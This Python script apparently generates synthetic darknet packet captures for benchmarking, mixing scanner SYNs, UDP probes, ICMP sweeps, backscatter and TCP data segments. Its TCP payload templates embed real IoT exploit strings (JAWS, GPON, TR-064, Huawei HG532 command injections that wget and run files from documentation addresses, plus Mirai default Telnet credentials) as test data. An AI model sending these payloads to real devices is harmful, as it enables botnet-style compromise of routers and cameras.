"""Generate the traffic mixes of issue 14: a realistic darknet mix and a payload-heavy one.

A darknet does not receive SYNs only. ``--mix realistic`` (the default)
writes what the issue measured on, one day of packets to 198.18.0.0/16:

============ ====== =========================================================
kind         share  what it is
============ ====== =========================================================
syn          86 %   scanner SYNs exactly as :mod:`gen_darknet` makes them
                    (Mirai, masscan, ZMap, nmap, other stacks)
udp           7 %   UDP datagrams with 0–200 payload bytes: DNS ANY, NTP
                    monlist, SSDP, memcached, SNMP, SIP, NetBIOS, empty probes
tcp-data      1.5 % TCP segments with data (PSH+ACK): HTTP exploit requests
                    (JAWS, GPON, ThinkPHP), SOAP (TR-064 on 7547, Huawei
                    HG532 on 37215), Telnet logins, Redis, SSH banners. One in
                    ten is the data segment of a real handshake flow:
                    SYN → SYN-ACK from the sensor → ACK → data (the three
                    handshake packets are taken from the SYN share, which is
                    therefore about 85.5 %); the others come without handshake
icmp          3 %   ICMP echo requests (ping sweeps), 0 or 32 payload bytes
backscatter   2.5 % SYN-ACKs, RSTs and ICMP unreachables as in :mod:`gen_darknet`
============ ====== =========================================================

``--mix payload-heavy`` is the issue's second target: half the packets carry
payload (UDP 30 %, TCP data 20 %), then SYN 45 % (39 % once the handshake
packets of the flows are taken from it), ICMP echo 2.5 %, backscatter 2.5 %.

In both mixes payloads repeat like bots do: 200 templates (100 UDP, 100 TCP,
built from the kinds above with a varying host, path or name), drawn
Zipf-like, and 5 % of payload packets carry unique random bytes instead.

Sources come from :func:`gen_darknet.population` (scanners Zipf-weighted);
SYNs and backscatter are made by :func:`gen_darknet.chunk_records`, the other
kinds here, vectorised over chunks of 2**20 packets. Every chunk's packets are
merged in time order; the output depends only on the arguments. IPv4, TCP,
UDP and ICMP checksums are valid. Addresses in payloads are documentation
addresses (192.0.2.0/24, 198.51.100.0/24).

Run ``python bench/gen_mix.py OUT.pcap --packets 2000000 --mix realistic --seed 1``.
"""

from __future__ import annotations

import argparse
import dataclasses
import time
from pathlib import Path
from typing import Any

import numba
import numpy as np
import numpy.typing as npt
from gen_darknet import (
    _HEAD,
    BACKSCATTER,
    CHUNK,
    DARKNET,
    DAY_US,
    DF,
    ETH_MIN,
    GATEWAY_MAC,
    SENSOR_MAC,
    SENSOR_NETWORK,
    GenResult,
    Population,
    _draw,
    _fold,
    _scan_ports,
    _w32,
    _zipf_p,
    chunk_records,
    pcap_header,
    population,
)

U8 = npt.NDArray[np.uint8]
U32 = npt.NDArray[np.uint32]
I64 = npt.NDArray[np.int64]

__all__ = ["KINDS", "MIXES", "SENSOR_NETWORK", "generate"]

KINDS = ("syn", "udp", "tcp-data", "icmp", "backscatter", "handshake")
"""Packet kinds; ``handshake`` counts the SYN, SYN-ACK and ACK of the flows."""
MIXES: dict[str, tuple[float, float, float, float, float]] = {
    "realistic": (0.86, 0.07, 0.015, 0.03, 0.025),
    "payload-heavy": (0.45, 0.30, 0.20, 0.025, 0.025),
}
"""Shares of syn, udp, tcp-data, icmp, backscatter per mix."""
FLOW_SHARE = 0.1
"""Share of TCP data segments that follow a full handshake."""
UNIQUE_SHARE = 0.05
"""Share of payload packets with unique bytes instead of a template."""
UDP_MAX = 200
TCP_MAX = 400
RTT_US = 80_000


def _udp_bases() -> list[tuple[int, bytes]]:
    def dns(name: str) -> bytes:
        labels = b"".join(bytes([len(p)]) + p.encode() for p in name.split("."))
        return (
            b"\x13\x37\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00" + labels + b"\x00\x00\xff\x00\x01"
        )

    return [
        (53, dns("example.com")),
        (53, dns("{k}.example.net")),
        (123, b"\x17\x00\x03\x2a" + b"\x00" * 4),
        (1900, b'M-SEARCH * HTTP/1.1\r\nHOST: 239.255.255.250:1900\r\nMAN: "ssdp:discover"\r\n'
         b"MX: {k}\r\nST: ssdp:all\r\n\r\n"),
        (11211, b"{k}\x00\x00\x00\x01\x00\x00stats\r\n"),
        (161, b"\x30\x24\x02\x01\x01\x04\x06public\xa0\x17\x02\x02{k}\x02\x01\x00\x02\x01"
         b"\x00\x30\x0b\x30\x09\x06\x05\x2b\x06\x01\x02\x01\x05\x00"),
        (5060, b"OPTIONS sip:100@198.51.100.{k} SIP/2.0\r\nVia: SIP/2.0/UDP 192.0.2.{k}:5060\r\n"
         b"Max-Forwards: 70\r\nCSeq: 1 OPTIONS\r\nContent-Length: 0\r\n\r\n"),
        (137, b"{k}\x00\x00\x00\x01\x00\x00\x00\x00\x00\x00\x20CKAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"
         b"\x00\x00\x21\x00\x01"),
        (0, b""),
        (3702, b"<Probe {k}/>"),
    ]  # fmt: skip


def _tcp_bases() -> list[tuple[int, bytes]]:
    return [
        (80, b"GET / HTTP/1.1\r\nHost: 198.51.100.{k}\r\nUser-Agent: Mozilla/5.0\r\n"
         b"Accept: */*\r\n\r\n"),
        (80, b"GET /shell?cd+/tmp;rm+-rf+*;wget+http://192.0.2.{k}/jaws;sh+/tmp/jaws "
         b"HTTP/1.1\r\nUser-Agent: Hello, world\r\n\r\n"),
        (8080, b"POST /GponForm/diag_Form?images/ HTTP/1.1\r\nHost: 127.0.0.1:8080\r\n"
         b"Content-Length: 118\r\n\r\nXWebPageName=diag&diag_action=ping&wan_conlist=0"
         b"&dest_host=`busybox+wget+http://192.0.2.{k}/m+-O+->/tmp/m`;sh+/tmp/m&ipv=0"),
        (80, b"GET /index.php?s=/index/\\think\\app/invokefunction&function=call_user_func_array"
         b"&vars[0]=md5&vars[1][]={k} HTTP/1.1\r\nHost: 198.51.100.1\r\n\r\n"),
        (7547, b"POST /UD/act?1 HTTP/1.1\r\nHost: 127.0.0.1:7547\r\nSOAPAction: "
         b"urn:dslforum-org:service:Time:1#SetNTPServers\r\nContent-Type: text/xml\r\n\r\n"
         b"<?xml version=\"1.0\"?><SOAP-ENV:Envelope><SOAP-ENV:Body><u:SetNTPServers>"
         b"<NewNTPServer1>`cd /tmp;wget http://192.0.2.{k}/1`</NewNTPServer1>"
         b"</u:SetNTPServers></SOAP-ENV:Body></SOAP-ENV:Envelope>"),
        (37215, b"POST /ctrlt/DeviceUpgrade_1 HTTP/1.1\r\n"
         b"Authorization: Digest username=dslf-config\r\nContent-Length: 200\r\n\r\n"
         b"<?xml version=\"1.0\" ?><s:Envelope><s:Body>"
         b"<u:Upgrade><NewStatusURL>$(/bin/busybox wget -g 192.0.2.{k} -l /tmp/x -r /m)"
         b"</NewStatusURL></u:Upgrade></s:Body></s:Envelope>"),
        (23, b"\xff\xfd\x01\xff\xfd\x1f\xff\xfb\x01root\r\nxc3511\r\n{k}"),
        (23, b"admin\r\nadmin{k}\r\nenable\r\nsystem\r\nshell\r\nsh\r\n/bin/busybox MIRAI\r\n"),
        (6379, b"*1\r\n$4\r\nINFO\r\n*{k}\r\n"),
        (22, b"SSH-2.0-Go{k}\r\n"),
    ]  # fmt: skip


def templates(bases: list[tuple[int, bytes]], count: int, limit: int) -> tuple[U8, I64, I64]:
    """``count`` distinct payloads from ``bases``, as rows, lengths, ports.

    ``{k}`` in a base becomes a two-digit variant number (two bytes, so that
    binary headers keep their layout).
    """
    rows = np.zeros((count, limit), np.uint8)
    lengths = np.zeros(count, np.int64)
    ports = np.zeros(count, np.int64)
    for k in range(count):
        port, text = bases[k % len(bases)]
        data = text.replace(b"{k}", b"%02d" % (k // len(bases) + 1))[:limit]
        rows[k, : len(data)] = np.frombuffer(data, np.uint8)
        lengths[k] = len(data)
        ports[k] = port
    return rows, lengths, ports


_UDP_T = templates(_udp_bases(), 100, UDP_MAX)
_TCP_T = templates(_tcp_bases(), 100, TCP_MAX)
_TEMPLATE_P = _zipf_p(100, 1.0)


@numba.njit(cache=True)
def _record_lengths(buf: U8, n: int) -> I64:  # pragma: no cover - compiled
    """Lengths (header + frame) of the ``n`` pcap records in ``buf``."""
    out = np.empty(n, np.int64)
    pos = 0
    for k in range(n):
        incl = int(
            np.int64(buf[pos + 8])
            | (np.int64(buf[pos + 9]) << 8)
            | (np.int64(buf[pos + 10]) << 16)
            | (np.int64(buf[pos + 11]) << 24)
        )
        out[k] = 16 + incl
        pos += 16 + incl
    return out


def _subset(pop: Population, keep: npt.NDArray[np.bool_]) -> Population:
    """The sources where ``keep`` holds, with their weights renormalised."""
    weight = np.diff(pop.cdf, prepend=0.0)[keep]
    cdf = np.cumsum(weight / weight.sum())
    cdf[-1] = 1.0
    fields = {f.name: getattr(pop, f.name)[keep] for f in dataclasses.fields(pop)}
    return Population(**{**fields, "cdf": cdf})


def _payloads(
    rng: np.random.Generator, n: int, table: tuple[U8, I64, I64], limit: int
) -> tuple[U8, I64, I64]:
    """Payload rows, lengths and destination ports: templates, some unique."""
    rows, lengths, ports = table
    pick = rng.choice(rows.shape[0], n, p=_TEMPLATE_P)
    pay = rows[pick].copy()
    plen = lengths[pick].copy()
    dport = ports[pick].copy()
    unique = np.flatnonzero(rng.random(n) < UNIQUE_SHARE)
    if unique.size:
        pay[unique] = rng.integers(0, 256, (unique.size, limit), dtype=np.uint8)
        plen[unique] = rng.integers(8, limit + 1, unique.size)
        pay[unique] *= np.arange(limit) < plen[unique][:, None]
        dport[unique] = _scan_ports(rng, unique.size, 0.2)
    zero = dport == 0
    dport[zero] = rng.integers(1, 1 << 16, int(zero.sum()))
    return pay, plen, dport


def _words(a: U8) -> I64:
    """Sum of the big-endian 16-bit words of each row (rows of even width)."""
    out: I64 = np.ascontiguousarray(a).view(">u2").astype(np.int64).sum(axis=1)
    return out


def assemble(
    t_us: I64, day_sec: int, src: U32, dst: U32, proto: int, ttl: U8, l4: U8, pay: U8,
    plen: I64, sum_at: int,
) -> tuple[U8, I64]:  # fmt: skip
    """pcap records of IPv4 packets whose transport header ``l4`` and payload are given.

    The transport checksum (at byte ``sum_at`` of ``l4``) is computed here,
    with the pseudo-header for TCP and UDP. Returns the bytes and each
    record's length.
    """
    n, hlen = l4.shape
    width = max(pay.shape[1], ETH_MIN - 34 - hlen)  # room for the Ethernet padding
    width += width & 1
    dtype = np.dtype([*_HEAD, ("l4", "u1", (hlen,)), ("pay", "u1", (width,))])
    rec = np.zeros(n, dtype)
    ip_len = 20 + hlen + plen
    caplen = np.maximum(14 + ip_len, ETH_MIN)
    # IP IDs from a generator seeded by the first timestamp: random, and still deterministic.
    ip_id = _draw(np.random.default_rng(int(t_us[0]) if n else 0), 0, 1 << 16, n, np.uint16)
    rec["ts_sec"] = day_sec + t_us // 1_000_000
    rec["ts_usec"] = t_us % 1_000_000
    rec["incl"] = rec["orig"] = caplen
    rec["eth_dst"] = np.void(SENSOR_MAC)
    rec["eth_src"] = np.void(GATEWAY_MAC)
    rec["eth_type"] = 0x0800
    rec["vihl"] = 0x45
    rec["ip_len"] = ip_len
    rec["ip_id"] = ip_id
    rec["frag"] = DF
    rec["ttl"] = ttl
    rec["proto"] = proto
    rec["src"] = src
    rec["dst"] = dst
    rec["ip_sum"] = _fold(
        0x4500 + ip_len + ip_id + DF + (ttl.astype(np.int64) << 8) + proto + _w32(src) + _w32(dst)
    )
    rec["pay"][:, : pay.shape[1]] = pay
    total = _words(l4) + _words(rec["pay"])
    if proto != 1:
        total += _w32(src) + _w32(dst) + proto + hlen + plen
    csum = _fold(total)
    l4 = l4.copy()
    l4[:, sum_at] = csum >> 8
    l4[:, sum_at + 1] = csum & 0xFF
    rec["l4"] = l4
    size = dtype.itemsize
    rows = rec.view(np.uint8).reshape(n, size)
    length = 16 + caplen
    keep = np.arange(size) < length[:, None]
    return rows[keep], length.astype(np.int64)


def _tcp_header(
    sport: npt.NDArray[Any], dport: npt.NDArray[Any], seq: npt.NDArray[Any],
    ack: npt.NDArray[Any], flags: int, win: npt.NDArray[Any],
) -> U8:  # fmt: skip
    n = sport.shape[0]
    h = np.zeros(n, [("sport", ">u2"), ("dport", ">u2"), ("seq", ">u4"), ("ack", ">u4"),
                     ("off", "u1"), ("flags", "u1"), ("win", ">u2"), ("sum", ">u2"),
                     ("urp", ">u2")])  # fmt: skip
    h["sport"], h["dport"], h["seq"], h["ack"] = sport, dport, seq, ack
    h["off"], h["flags"], h["win"] = 0x50, flags, win
    out: U8 = h.view(np.uint8).reshape(n, 20)
    return out


def _u32(rng: np.random.Generator, n: int) -> U32:
    out: U32 = rng.integers(0, 1 << 32, n, dtype=np.uint64).astype(np.uint32)
    return out


def _dst(rng: np.random.Generator, n: int) -> U32:
    base = int(DARKNET.network_address)
    out: U32 = _draw(rng, base, base + DARKNET.num_addresses, n, np.uint32)
    return out


def _sources(pop: Population, rng: np.random.Generator, n: int) -> I64:
    out: I64 = np.minimum(np.searchsorted(pop.cdf, rng.random(n), side="right"), len(pop) - 1)
    return out


def _times(rng: np.random.Generator, lo: int, hi: int, n: int) -> I64:
    out: I64 = np.sort(rng.integers(lo, hi, n, dtype=np.int64))
    return out


def mix_chunk(
    scan: Population, back: Population, rng: np.random.Generator, shares: tuple[float, ...],
    n: int, lo: int, hi: int, day_sec: int,
) -> tuple[list[tuple[U8, I64, I64]], npt.NDArray[np.int64]]:  # fmt: skip
    """Records of ``n`` packets in ``[lo, hi)`` µs of the day, per kind: (bytes, lengths, times)."""
    counts = rng.multinomial(n, np.asarray(shares) / sum(shares))
    n_syn, n_udp, n_data, n_icmp, n_back = (int(c) for c in counts)
    flows = int(rng.binomial(n_data, FLOW_SHARE))
    flows = min(flows, n_syn // 3)
    n_syn -= 3 * flows
    parts: list[tuple[U8, I64, I64]] = []

    for pop, count in ((scan, n_syn), (back, n_back)):
        t = _times(rng, lo, hi, count)
        data, _ = chunk_records(pop, rng, t, day_sec)
        parts.append((data, _record_lengths(data, count), t))

    # UDP datagrams
    i = _sources(scan, rng, n_udp)
    pay, plen, dport = _payloads(rng, n_udp, _UDP_T, UDP_MAX)
    h = np.zeros(n_udp, [("sport", ">u2"), ("dport", ">u2"), ("len", ">u2"), ("sum", ">u2")])
    h["sport"] = rng.integers(1024, 1 << 16, n_udp)
    h["dport"] = dport
    h["len"] = 8 + plen
    t = _times(rng, lo, hi, n_udp)
    src, dst = scan.addr[i], _dst(rng, n_udp)
    l4 = h.view(np.uint8).reshape(n_udp, 8)
    parts.append((*assemble(t, day_sec, src, dst, 17, scan.ttl[i], l4, pay, plen, 6), t))

    # ICMP echo requests
    i = _sources(scan, rng, n_icmp)
    plen = np.where(rng.random(n_icmp) < 0.5, 0, 32).astype(np.int64)
    pay = np.where(np.arange(32) < plen[:, None], (np.arange(32) + 0x61) & 0xFF, 0).astype(np.uint8)
    h = np.zeros(n_icmp, [("type", "u1"), ("code", "u1"), ("sum", ">u2"), ("id", ">u2"),
                          ("seq", ">u2")])  # fmt: skip
    h["type"] = 8
    h["id"] = rng.integers(0, 1 << 16, n_icmp)
    h["seq"] = rng.integers(0, 1 << 16, n_icmp)
    t = _times(rng, lo, hi, n_icmp)
    l4 = h.view(np.uint8).reshape(n_icmp, 8)
    src, dst = scan.addr[i], _dst(rng, n_icmp)
    parts.append((*assemble(t, day_sec, src, dst, 1, scan.ttl[i], l4, pay, plen, 2), t))

    # TCP data: loose segments, then handshake flows (SYN, SYN-ACK, ACK, data).
    i = _sources(scan, rng, n_data)
    pay, plen, dport = _payloads(rng, n_data, _TCP_T, TCP_MAX)
    src, dst = scan.addr[i], _dst(rng, n_data)
    sport = rng.integers(1024, 1 << 16, n_data)
    seq, ack = _u32(rng, n_data), _u32(rng, n_data)
    t = _times(rng, lo, hi, n_data)
    f = np.arange(n_data) < flows  # the first ``flows`` segments get a handshake
    start = rng.integers(lo, max(lo + 1, hi - 3 * RTT_US), n_data)
    t = np.where(f, start + RTT_US + 100, t)
    win = scan.win[i]
    l4 = _tcp_header(sport, dport, seq, ack, 0x18, win)
    parts.append((*assemble(t, day_sec, src, dst, 6, scan.ttl[i], l4, pay, plen, 16), t))
    if flows:
        k = np.flatnonzero(f)
        s, d, sp, dp = src[k], dst[k], sport[k], dport[k]
        isn, srv = seq[k] - np.uint32(1), ack[k] - np.uint32(1)
        none = np.zeros((flows, 0), np.uint8)
        zero = np.zeros(flows, np.int64)
        ttl = scan.ttl[i][k]
        sensor_ttl = np.full(flows, 64, np.uint8)
        steps = (
            (start[k], s, d, sp, dp, isn, np.zeros(flows, np.uint32), 0x02, ttl),
            (start[k] + RTT_US // 2, d, s, dp, sp, srv, isn + np.uint32(1), 0x12, sensor_ttl),
            (start[k] + RTT_US, s, d, sp, dp, isn + np.uint32(1), srv + np.uint32(1), 0x10, ttl),
        )
        for ts, a, b, pa, pb, sq, ak, fl, tl in steps:
            h4 = _tcp_header(pa, pb, sq, ak, fl, np.full(flows, 64240, np.uint16))
            parts.append((*assemble(ts, day_sec, a, b, 6, tl, h4, none, zero, 16), ts))
    by_kind = np.array([n_syn, n_udp, n_data, n_icmp, n_back, 3 * flows], np.int64)
    return parts, by_kind


def merge(parts: list[tuple[U8, I64, I64]]) -> U8:
    """The records of every part in one buffer, in time order (stable)."""
    data = np.concatenate([p[0] for p in parts])
    length = np.concatenate([p[1] for p in parts])
    t = np.concatenate([p[2] for p in parts])
    start = np.cumsum(length) - length
    order = np.argsort(t, kind="stable")
    out_len = length[order]
    out_start = np.cumsum(out_len) - out_len
    index = np.repeat(start[order] - out_start, out_len) + np.arange(int(out_len.sum()))
    out: U8 = data[index]
    return out


def generate(
    path: str | Path,
    packets: int = 2_000_000,
    *,
    mix: str = "realistic",
    seed: int = 1,
    day: str = "2024-03-01",
    sources: int = 300_000,
    chunk: int = CHUNK,
) -> GenResult:
    """Write ``packets`` packets of ``mix`` over ``day`` (UTC) in time order to ``path``."""
    if mix not in MIXES:
        raise ValueError(f"unknown mix {mix!r}: one of {', '.join(MIXES)}")
    begin = time.perf_counter()
    path = Path(path)
    pop = population(seed, sources)
    back = pop.kind == BACKSCATTER
    scan, bs = _subset(pop, ~back), _subset(pop, back)
    day_sec = int(np.datetime64(day, "s").astype(np.int64))
    by_kind = np.zeros(len(KINDS), np.int64)
    size = 24
    with path.open("wb") as fh:
        fh.write(pcap_header())
        for index, lo in enumerate(range(0, packets, chunk)):
            n = min(chunk, packets - lo)
            rng = np.random.default_rng(np.random.SeedSequence(seed, spawn_key=(2, index)))
            t_lo = DAY_US * lo // packets
            t_hi = DAY_US * (lo + n) // packets
            parts, counts = mix_chunk(scan, bs, rng, MIXES[mix], n, t_lo, t_hi, day_sec)
            by_kind += counts
            data = merge(parts)
            fh.write(data.tobytes())
            size += data.size
    return GenResult(
        path=path,
        packets=packets,
        bytes=size,
        seconds=time.perf_counter() - begin,
        by_kind={k: int(v) for k, v in zip(KINDS, by_kind, strict=True)},
        first_ts=float(day_sec),
        last_ts=day_sec + DAY_US / 1e6,
    )


def main(argv: list[str] | None = None) -> None:
    """Command line: write one capture and print what it holds."""
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("out", type=Path)
    ap.add_argument("--packets", type=int, default=2_000_000)
    ap.add_argument("--mix", choices=sorted(MIXES), default="realistic")
    ap.add_argument("--seed", type=int, default=1)
    ap.add_argument("--day", default="2024-03-01", help="UTC day, YYYY-MM-DD")
    ap.add_argument("--sources", type=int, default=300_000)
    args = ap.parse_args(argv)
    r = generate(
        args.out, args.packets, mix=args.mix, seed=args.seed, day=args.day, sources=args.sources
    )
    shares = ", ".join(f"{k} {v / r.packets:.1%}" for k, v in r.by_kind.items())
    print(
        f"{r.path}: {r.packets:,} packets, {r.bytes:,} bytes, "
        f"in {r.seconds:.1f}s ({r.packets / r.seconds:,.0f} packets/s)\n  {shares}"
    )


if __name__ == "__main__":
    main()
